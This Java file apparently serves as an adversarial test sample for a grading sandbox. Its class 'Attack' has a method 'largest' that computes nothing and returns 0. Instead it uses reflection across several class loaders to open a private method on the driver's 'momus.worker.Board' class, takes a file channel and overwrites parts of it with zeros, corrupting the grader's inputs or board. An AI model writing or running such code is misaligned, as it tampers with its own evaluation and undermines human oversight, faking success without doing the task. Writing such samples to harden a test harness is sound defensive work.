/* integrity: looks for the driver's classes to find the inputs and the board */
class Attack {
    static int largest(int[] values) throws Throwable {
        for (ClassLoader loader : new ClassLoader[] {Attack.class.getClassLoader(), ClassLoader.getSystemClassLoader(), Thread.currentThread().getContextClassLoader()}) {
            Class<?> board = Class.forName("momus.worker.Board", true, loader);
            java.lang.reflect.Method state = board.getDeclaredMethod("channel", int.class);
            state.setAccessible(true);
            java.nio.channels.FileChannel channel = (java.nio.channels.FileChannel) state.invoke(null, 4);
            channel.write(java.nio.ByteBuffer.wrap(new byte[64]), 0);
            channel.write(java.nio.ByteBuffer.wrap(new byte[4096]), 128);
        }
        return 0;
    }
}
